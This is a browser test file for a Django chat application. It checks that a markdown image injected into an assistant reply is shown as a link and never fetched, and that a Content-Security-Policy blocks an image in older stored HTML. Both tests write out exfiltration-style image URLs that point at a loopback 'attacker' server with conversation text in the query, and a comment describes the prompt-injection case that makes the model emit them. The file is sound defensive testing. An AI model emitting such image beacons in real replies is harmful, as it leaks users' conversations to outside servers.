"""What a hostile reply can make the browser do: nothing it fetches by itself. An image from
another host is a link, and an image in HTML stored before that rule is refused by the
Content-Security-Policy; the reader's browser never calls the attacker's server."""

from __future__ import annotations

import threading
from collections.abc import Iterator
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer

import pytest
from django.contrib.auth.models import User
from playwright.sync_api import Page, expect

from chat.models import Conversation
from tests.support.browser import open_page, send, wait_ended_on_page
from tests.support.daphne import Daphne
from tests.support.rows import add_message

pytestmark = [pytest.mark.django_db(transaction=True), pytest.mark.browser]


class Attacker:
    """An HTTP server on loopback that records every request a browser makes to it."""

    def __init__(self) -> None:
        self.paths: list[str] = []
        paths = self.paths

        class Handler(BaseHTTPRequestHandler):
            def do_GET(self) -> None:
                paths.append(self.path)
                self.send_response(200)
                self.send_header("Content-Type", "image/png")
                self.end_headers()

            def log_message(self, *args: object) -> None:
                pass

        self.server = ThreadingHTTPServer(("127.0.0.1", 0), Handler)
        self.url = f"http://127.0.0.1:{self.server.server_address[1]}"
        threading.Thread(target=self.server.serve_forever, daemon=True).start()


@pytest.fixture
def attacker() -> Iterator[Attacker]:
    server = Attacker()
    yield server
    server.server.shutdown()


def test_an_image_in_a_reply_is_a_link_the_browser_does_not_fetch(
    page: Page, daphne: Daphne, live_user: User, attacker: Attacker
) -> None:
    # The demo model quotes the message: an injection that makes it emit an image.
    leak = f"![chart]({attacker.url}/p.png?d=secret-conversation-text)"
    open_page(page, daphne, live_user)

    reply = send(page, leak)
    wait_ended_on_page(reply)

    link = reply.locator(f'a[href="{attacker.url}/p.png?d=secret-conversation-text"]')
    expect(link.first).to_have_text("chart")
    expect(reply.locator("img")).to_have_count(0)
    page.reload()
    expect(page.locator(".from-assistant a", has_text="chart").first).to_be_visible()
    assert attacker.paths == []


@pytest.mark.csp_refusals_expected
def test_an_image_in_html_stored_before_the_rule_is_refused_by_the_policy(
    page: Page, daphne: Daphne, live_user: User, attacker: Attacker, csp_refusals: list[str]
) -> None:
    conv = Conversation.objects.create(owner=live_user, title="Old", model="demo")
    add_message(conversation=conv, role="user", content="Hi", html="Hi")
    add_message(
        conversation=conv,
        role="assistant",
        content="old",
        html=f'<p><img src="{attacker.url}/old.png?d=leak" alt="old"></p>',
    )

    open_page(page, daphne, live_user, f"/c/{conv.pk}/")
    page.wait_for_load_state("networkidle")

    assert attacker.paths == []
    assert any("img-src" in refusal for refusal in csp_refusals)
